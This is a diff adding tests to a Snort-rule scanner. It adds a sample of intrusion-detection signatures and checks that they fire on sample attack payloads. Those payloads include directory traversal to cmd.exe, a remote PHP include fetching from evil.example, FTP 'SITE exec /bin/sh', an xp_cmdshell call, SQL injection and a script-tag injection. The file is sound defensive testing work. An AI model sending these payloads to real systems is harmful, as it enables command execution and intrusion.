@@ -139,3 +139,116 @@ alert tcp any any -> any any (msg:"dotall"; content:"a"; pcre:"/a.b/s"; sid:8100
     assert 8000 not in r.sids()
     r = m.scan(b"a\nb")                 # dotall crosses newline
     assert 8100 in r.sids()
+
+
+# -- hardening: a realistic community-style rule sample + big payloads ------
+
+COMMUNITY_SAMPLE = r'''
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-IIS cmd.exe access"; content:"cmd.exe"; nocase; sid:1002001;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC /etc/passwd"; content:"/etc/passwd"; sid:1002002;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-PHP remote include"; content:"php?"; content:"http|3a|//"; sid:1002003;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-CGI phf access"; content:"/phf"; nocase; sid:1002004;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP site exec"; content:"SITE "; nocase; content:"EXEC"; nocase; sid:1002005;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 21 (msg:"FTP USER overflow"; content:"USER "; pcre:"/USER\s[^\n]{100}/"; sid:1002006;)
+alert tcp any any -> $HOME_NET 23 (msg:"TELNET login incorrect"; content:"Login incorrect"; sid:1002007;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 25 (msg:"SMTP expn root"; content:"expn root"; nocase; sid:1002008;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 25 (msg:"SMTP vrfy decode"; content:"vrfy"; nocase; content:"decode"; nocase; sid:1002009;)
+alert udp $EXTERNAL_NET any -> $HOME_NET 53 (msg:"DNS zone transfer"; content:"|00 00 fc|"; sid:1002010;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 139 (msg:"NETBIOS SMB IPC$ share"; content:"IPC|24 00|"; sid:1002011;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 1433 (msg:"MS-SQL xp_cmdshell"; content:"xp_cmdshell"; nocase; sid:1002012;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-ATTACK SELECT FROM"; content:"select"; nocase; content:"from"; nocase; pcre:"/select.+from/i"; sid:1002013;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-ATTACK union select"; content:"union"; nocase; content:"select"; nocase; sid:1002014;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC long basic auth"; content:"Authorization|3a| Basic"; pcre:"/Authorization: Basic [A-Za-z0-9+\/=]{200}/"; sid:1002015;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-CLIENT script tag"; content:"<script"; nocase; sid:1002016;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC dot dot slash"; content:"../.."; sid:1002017;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-IIS unicode traversal"; content:"%c0%af"; nocase; sid:1002018;)
+alert icmp $EXTERNAL_NET any -> $HOME_NET any (msg:"ICMP loki tunnel"; content:"|f1 d2|"; sid:1002019;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 6667 (msg:"IRC botnet join"; content:"JOIN #"; pcre:"/JOIN #[a-z0-9]{3,12}/i"; sid:1002020;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC wget agent"; content:"User-Agent|3a| Wget"; nocase; sid:1002021;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 80 (msg:"WEB-MISC proxy CONNECT"; content:"CONNECT "; content:!"localhost"; sid:1002022;)
+alert tcp $HOME_NET any -> $EXTERNAL_NET 80 (msg:"SPYWARE beacon"; content:"/gateway.php?id="; sid:1002023;)
+alert tcp $EXTERNAL_NET any -> $HOME_NET 22 (msg:"SSH version scan"; content:"SSH-1.99"; sid:1002024;)
+'''
+
+
+@pytest.fixture(scope="module")
+def community():
+    return compile_snort(COMMUNITY_SAMPLE)
+
+
+def test_community_sample_loads(community):
+    assert community.num_rules == 24
+
+
+def test_community_sample_hits(community):
+    cases = {
+        1002001: b"GET /scripts/..%255c../winnt/system32/CMD.exe?/c+dir HTTP/1.0",
+        1002002: b"GET /cgi-bin/view?file=/etc/passwd HTTP/1.0",
+        1002003: b"GET /index.php?page=http://evil.example/shell.txt",
+        1002005: b"SITE exec /bin/sh -c id\r\n",
+        1002006: b"USER " + b"A" * 150 + b"\r\n",
+        1002010: b"\x12\x34\x00\x00\xfc\x00\x01",
+        1002012: b"EXEC master..XP_CMDSHELL 'dir'",
+        1002013: b"GET /q?=SELECT name FROM users HTTP/1.0",
+        1002016: b"<html><SCRIPT>alert(1)</script>",
+        1002020: b"NICK bot123\r\nJOIN #botnet99 key\r\n",
+        1002024: b"SSH-1.99-OpenSSH_2.9\n",
+    }
+    for sid, payload in cases.items():
+        assert sid in _sids(community, payload), sid
+
+
+def test_community_negation(community):
+    # 1002022 requires CONNECT and absence of "localhost"
+    assert 1002022 in _sids(community, b"CONNECT evil.example:443 HTTP/1.1")
+    assert 1002022 not in _sids(
+        community, b"CONNECT localhost:443 HTTP/1.1"
+    )
+
+
+def test_large_stream_payload(community):
+    """>1 MB payload through the full prefilter+verify+pcre pipeline."""
+    import time
+
+    filler = (b"GET /index.html HTTP/1.0\r\nHost: www.example.com\r\n"
+              b"Accept: */*\r\n\r\n" + b"x" * 397) * 3000  # ~1.4 MB
+    payload = (filler[: 700_000]
+               + b"GET /q?=SELECT name FROM users HTTP/1.0\r\n"
+               + filler[700_000:]
+               + b"USER " + b"B" * 150 + b"\r\n")
+    assert len(payload) > 1 << 20
+    t0 = time.perf_counter()
+    sids = _sids(community, payload)
+    dt = time.perf_counter() - t0
+    assert 1002013 in sids and 1002006 in sids
+    # pcre verification must run at native speed on MB payloads (the old
+    # per-byte Python walk took ~1 s per candidate rule per MB)
+    assert dt < 20.0, f"snort scan took {dt:.1f}s on {len(payload)} bytes"
+
+
+def test_pcre_hit_native_matches_python(community):
+    """Native pcre DFA walk == the Python reference walk, incl. the
+    accept-at-final-byte and eof-accept edges."""
+    m = community
+    payloads = [
+        b"USER " + b"A" * 150,            # accept fires mid-stream
+        b"USER " + b"A" * 100,            # accept at exactly the last byte
+        b"USER " + b"A" * 99,             # no match
+        b"JOIN #abc",                     # short hit at end
+        b"",                              # empty payload
+    ]
+    for idx in range(m.num_rules):
+        t = m._pcre_tables(idx)
+        if t is None or t[0] != "dfa":
+            continue
+        _, table, accept, eof, start = t
+        for raw in payloads:
+            s = start
+            hit = False
+            for b in raw:
+                if accept[s]:
+                    hit = True
+                    break
+                s = int(table[b, s])
+            want = bool(hit or accept[s] or eof[s])
+            assert m._pcre_hit(idx, raw) == want, (idx, raw[:20])
